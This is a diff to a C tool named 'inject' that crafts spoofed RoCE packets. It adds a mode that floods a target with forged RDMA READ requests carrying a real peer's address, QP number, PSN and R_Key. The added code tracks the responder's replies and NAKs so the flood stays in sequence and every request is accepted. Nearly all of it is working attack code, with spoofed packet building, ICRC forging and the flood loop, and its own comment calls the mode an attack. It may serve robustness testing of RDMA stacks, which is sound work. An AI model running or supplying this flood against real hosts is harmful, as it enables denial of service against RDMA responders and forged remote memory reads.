@@ -31,6 +31,21 @@
  * any address with the Q_Key, which is random here) can break it, and
  * RoCE cannot tell it from the peer's: those are never sent.
  *
+ * With -R, every packet is instead an RDMA READ request that matches a
+ * connection exactly: from the peer's address (-p) to the responder's QP,
+ * at the next PSN it expects, with its real R_Key, each asking for LEN
+ * bytes at VA (and with -B, every EVERY-th for BIG bytes). This is the one
+ * attack RoCE cannot refuse, and it shows what the responder keeps for
+ * reads it has taken: a READ flood from a peer that ignores
+ * max_dest_rd_atomic. Watching IFACE (-i), the flood counts the responses
+ * sent to PEERQPN and, when the responder NAKs a sequence error (its
+ * backlog overflowed and a request was dropped), goes on from the PSN the
+ * NAK names, as a requester would. With -w, at most WINDOW reads are left
+ * unanswered, and 300 ms without a response also sends the flood back to
+ * the PSN after the last one answered: a paced flood, every request of
+ * which the responder takes. The count goes on for 2 s after the last
+ * request.
+ *
  * Output: what was sent, by kind. Exit status 0 when every packet was
  * handed to the stack.
  */
@@ -43,6 +58,7 @@
 #include <net/if.h>
 #include <netinet/ip.h>
 #include <netinet/udp.h>
+#include <poll.h>
 #include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -186,6 +202,8 @@ static struct in_addr target, peer;
 static bool have_peer;
 
 /* Reads what the packet socket holds: packets to TARGET's port 4791. */
+static void flood_seen(const uint8_t *b, size_t n, const struct sockaddr_ll *from);
+
 static void watch(unsigned long now)
 {
 	uint8_t b[128];
@@ -211,6 +229,7 @@ static void watch(unsigned long now)
 		uh = (const void *)(b + 20);
 		if (ntohs(uh->dest) != ROCE_PORT)
 			continue;
+		flood_seen(b, n, &from);
 		qpn = (b[28 + 5] << 16 | b[28 + 6] << 8 | b[28 + 7]);
 		psn = (b[28 + 9] << 16 | b[28 + 10] << 8 | b[28 + 11]);
 		if (qpn == 1)
@@ -232,8 +251,14 @@ static int watch_open(const char *iface)
 {
 	struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
 
+	int rcvbuf = 8 << 20;
+
 	sll.sll_ifindex = if_nametoindex(iface);
 	watch_fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
+	/* Room for what a flood's responses bring between two looks (root may force it). */
+	if (watch_fd >= 0 &&
+	    setsockopt(watch_fd, SOL_SOCKET, SO_RCVBUFFORCE, &rcvbuf, sizeof(rcvbuf)))
+		setsockopt(watch_fd, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof(rcvbuf));
 	if (watch_fd < 0 || !sll.sll_ifindex ||
 	    bind(watch_fd, (struct sockaddr *)&sll, sizeof(sll))) {
 		fprintf(stderr, "inject: watch %s: %s\n", iface, strerror(errno));
@@ -259,6 +284,38 @@ static void put24(uint8_t *p, uint32_t v)
 	p[0] = v >> 16;
 	p[1] = v >> 8;
 	p[2] = v;
+}
+
+/* The IP and UDP headers of a packet of @len bytes from @src, to TARGET's port 4791. */
+static void ip_udp(uint8_t *pkt, size_t len, struct in_addr src, uint8_t tos)
+{
+	struct iphdr *ip = (struct iphdr *)pkt;
+	struct udphdr *uh = (struct udphdr *)(pkt + 20);
+
+	ip->version = 4;
+	ip->ihl = 5;
+	ip->tos = tos;
+	ip->tot_len = htons(len);
+	ip->id = htons(1 + below(65535));
+	ip->frag_off = htons(IP_DF);
+	ip->ttl = OUR_TTL;
+	ip->protocol = IPPROTO_UDP;
+	ip->saddr = src.s_addr;
+	ip->daddr = target.s_addr;
+	uh->source = htons(49152 + below(16384));
+	uh->dest = htons(ROCE_PORT);
+	uh->len = htons(len - 20);
+}
+
+/* A valid ICRC in the last four bytes of the packet of @len bytes at @pkt. */
+static void put_icrc(uint8_t *pkt, size_t len)
+{
+	uint32_t c = icrc(pkt, len - ICRC_LEN);
+
+	pkt[len - 4] = c;
+	pkt[len - 3] = c >> 8;
+	pkt[len - 2] = c >> 16;
+	pkt[len - 1] = c >> 24;
 }
 
 /*
@@ -301,8 +358,6 @@ static void pick_target(struct in_addr *src, uint32_t *qpn, uint32_t *psn)
 /* A packet of @kind from the IP header on, into @pkt; its length. */
 static size_t build(uint8_t *pkt, enum kind kind)
 {
-	struct iphdr *ip = (struct iphdr *)pkt;
-	struct udphdr *uh = (struct udphdr *)(pkt + 20);
 	uint8_t *bth = pkt + 28, *ext = bth + BTH_LEN, *pay;
 	const struct op *op = &ops[below(ARRAY_SIZE(ops))];
 	size_t elen, paylen = 0, len, cut;
@@ -377,36 +432,127 @@ static size_t build(uint8_t *pkt, enum kind kind)
 	if (len > MAX_PKT)
 		len = MAX_PKT;
 
-	ip->version = 4;
-	ip->ihl = 5;
-	ip->tos = below(256);
-	ip->tot_len = htons(len);
-	ip->id = htons(1 + below(65535));
-	ip->frag_off = htons(IP_DF);
-	ip->ttl = OUR_TTL;
-	ip->protocol = IPPROTO_UDP;
-	ip->saddr = src.s_addr;
-	ip->daddr = target.s_addr;
-	uh->source = htons(49152 + below(16384));
-	uh->dest = htons(ROCE_PORT);
-	uh->len = htons(len - 20);
-	if (fix_icrc) {
-		uint32_t c = icrc(pkt, len - ICRC_LEN);
-
-		pkt[len - 4] = c;
-		pkt[len - 3] = c >> 8;
-		pkt[len - 2] = c >> 16;
-		pkt[len - 1] = c >> 24;
-	} else if (kind == K_HEADER) {
+	ip_udp(pkt, len, src, below(256));
+	if (fix_icrc)
+		put_icrc(pkt, len);
+	else if (kind == K_HEADER)
 		rnd_bytes(pkt + len - ICRC_LEN, ICRC_LEN);
-	}
 	return len;
+}
+
+/* ---- a READ flood that matches a connection (-R) ---- */
+
+static struct {
+	bool on;
+	uint32_t qpn, peer_qpn, psn, rkey, len, big, every, window;
+	uint32_t expected;		/* the PSN after the last response seen */
+	uint64_t va;
+	unsigned long sent, responses, answered, resyncs;
+} flood;
+
+/*
+ * What the responder sent the flood's victim: read responses, counted once
+ * (on lo a packet socket sees each packet leave and arrive), and the NAK
+ * of a sequence error, whose PSN is the one the responder expects.
+ */
+static void flood_seen(const uint8_t *b, size_t n, const struct sockaddr_ll *from)
+{
+	const uint8_t *bth = b + 28;
+	uint8_t op = bth[0];
+	uint32_t psn = bth[9] << 16 | bth[10] << 8 | bth[11];
+
+	if (!flood.on || from->sll_pkttype != PACKET_OUTGOING ||
+	    (uint32_t)(bth[5] << 16 | bth[6] << 8 | bth[7]) != flood.peer_qpn)
+		return;
+	if (op >= 0x0d && op <= 0x10) {
+		flood.responses++;
+		/* FIRST and ONLY open a response: one read answered. */
+		flood.answered += op == 0x0d || op == 0x10;
+		flood.expected = (psn + 1) & PSN_MASK;
+	} else if (op == 0x11 && n >= 28 + BTH_LEN + 4 && bth[BTH_LEN] == 0x60) {
+		flood.psn = psn;
+		flood.sent = flood.answered;
+		flood.resyncs++;
+	}
+}
+
+/* Until fewer than the window's reads are unanswered; or 300 ms of silence: then resync. */
+static void flood_wait(unsigned long now)
+{
+	unsigned long seen = flood.responses;
+	struct pollfd p = { .fd = watch_fd, .events = POLLIN };
+	int quiet = 0;
+
+	while (flood.window && flood.sent - flood.answered >= flood.window) {
+		if (poll(&p, 1, 10) <= 0)
+			quiet += 10;
+		watch(now);
+		if (flood.responses != seen) {
+			seen = flood.responses;
+			quiet = 0;
+		} else if (quiet >= 300) {
+			flood.psn = flood.expected;
+			flood.sent = flood.answered;
+			flood.resyncs++;
+		}
+	}
+}
+
+/* The next READ request of the flood, from the IP header on, into @pkt; its length. */
+static size_t build_read(uint8_t *pkt, unsigned long i)
+{
+	uint8_t *bth = pkt + 28, *reth = bth + BTH_LEN;
+	uint32_t len = flood.every && i % flood.every == 0 ? flood.big : flood.len;
+	size_t n = 28 + BTH_LEN + 16 + ICRC_LEN;
+	int k;
+
+	memset(pkt, 0, n);
+	bth[0] = 0x0c;
+	memset(bth + 2, 0xff, 2);
+	put24(bth + 5, flood.qpn);
+	bth[8] = 0x80;			/* AckReq */
+	put24(bth + 9, flood.psn);
+	for (k = 0; k < 8; k++)
+		reth[k] = flood.va >> (56 - 8 * k);
+	for (k = 0; k < 4; k++) {
+		reth[8 + k] = flood.rkey >> (24 - 8 * k);
+		reth[12 + k] = len >> (24 - 8 * k);
+	}
+	/* The responder takes one PSN for each response it owes. */
+	flood.sent++;
+	flood.psn = (flood.psn + (len ? (len + mtu - 1) / mtu : 1)) & PSN_MASK;
+
+	ip_udp(pkt, n, peer, 0);
+	put_icrc(pkt, n);
+	return n;
+}
+
+static bool flood_args(const char *r, const char *b)
+{
+	unsigned long long v[6];
+
+	if (r && sscanf(r, "%lli:%lli:%lli:%lli:%lli:%lli", &v[0], &v[1], &v[2], &v[3], &v[4],
+			&v[5]) == 6) {
+		flood.on = true;
+		flood.qpn = v[0] & PSN_MASK;
+		flood.peer_qpn = v[1] & PSN_MASK;
+		flood.psn = v[2] & PSN_MASK;
+		flood.rkey = v[3];
+		flood.va = v[4];
+		flood.len = v[5];
+		flood.expected = flood.psn;
+	} else if (r) {
+		return false;
+	}
+	if (b && sscanf(b, "%i:%i", &flood.big, &flood.every) != 2)
+		return false;
+	return true;
 }
 
 static int bad_args(void)
 {
-	fprintf(stderr, "usage: inject -t TARGET [-n COUNT] [-s SEED] [-i IFACE -p PEER] %s\n",
-		"[-m MTU]");
+	fprintf(stderr, "usage: inject -t TARGET [-n COUNT] [-s SEED] [-i IFACE -p PEER] %s %s\n",
+		"[-m MTU]", "[-R QPN:PEERQPN:PSN:RKEY:VA:LEN [-B BIG:EVERY] [-w WINDOW]]");
 	return 2;
 }
 
@@ -422,7 +568,7 @@ int main(int argc, char **argv)
 {
 	unsigned long count = 1000000, sent[K_NUM] = { 0 }, failed = 0, i;
 	struct sockaddr_in dst = { .sin_family = AF_INET };
-	const char *iface = NULL;
+	const char *iface = NULL, *read_arg = NULL, *big_arg = NULL;
 	uint64_t seed = 1;
 	uint8_t pkt[MAX_PKT];
 	double t0, t;
@@ -430,7 +576,7 @@ int main(int argc, char **argv)
 	size_t len;
 	int fd, c, err = 0;
 
-	while ((c = getopt(argc, argv, "t:n:s:i:p:m:")) != -1) {
+	while ((c = getopt(argc, argv, "t:n:s:i:p:m:R:B:w:")) != -1) {
 		switch (c) {
 		case 't':
 			if (!inet_aton(optarg, &target))
@@ -453,11 +599,21 @@ int main(int argc, char **argv)
 		case 'm':
 			mtu = atoi(optarg);
 			break;
+		case 'R':
+			read_arg = optarg;
+			break;
+		case 'B':
+			big_arg = optarg;
+			break;
+		case 'w':
+			flood.window = strtoul(optarg, NULL, 0);
+			break;
 		default:
 			return bad_args();
 		}
 	}
-	if (!target.s_addr || mtu < 256 || mtu > 4096)
+	if (!target.s_addr || mtu < 256 || mtu > 4096 || !flood_args(read_arg, big_arg) ||
+	    (flood.on && (!have_peer || !iface)))
 		return bad_args();
 	crc_init();
 	rng_state = seed * 0x9e3779b97f4a7c15ull + 1;
@@ -472,10 +628,12 @@ int main(int argc, char **argv)
 	       (unsigned long long)seed, mtu);
 	t0 = now();
 	for (i = 0; i < count; i++) {
-		if (!(i & 255))
+		if (!(i & (flood.on ? 15 : 255)))
 			watch(i);
-		k = below(K_NUM);
-		len = build(pkt, k);
+		if (flood.on)
+			flood_wait(i);
+		k = flood.on ? K_VALID : below(K_NUM);
+		len = flood.on ? build_read(pkt, i) : build(pkt, k);
 		if (sendto(fd, pkt, len, 0, (struct sockaddr *)&dst, sizeof(dst)) != (ssize_t)len) {
 			/* A full socket buffer is the link's loss; anything else is ours. */
 			if (errno != ENOBUFS && errno != EAGAIN && !err) {
@@ -492,6 +650,16 @@ int main(int argc, char **argv)
 	t = t > 0 ? t : 1;
 	printf("# inject: %lu sent in %.1f s (%.0f/s), %lu not taken by the stack; %s: %u\n",
 	       count - failed, t, (count - failed) / t, failed, "QPs learnt", nlearnt);
+	if (flood.on) {
+		/* The responder is still answering what it took: watch it for 2 s more. */
+		for (t0 = now(); now() - t0 < 2;) {
+			usleep(10000);
+			watch(i);
+		}
+		printf("flood: %lu responses to QP %#x opening %lu reads, %lu resyncs\n",
+		       flood.responses, flood.peer_qpn, flood.answered, flood.resyncs);
+		return err ? 1 : 0;
+	}
 	for (k = 0; k < K_NUM; k++)
 		printf("#   %-10s %lu\n", kind_names[k], sent[k]);
 	return err ? 1 : 0;
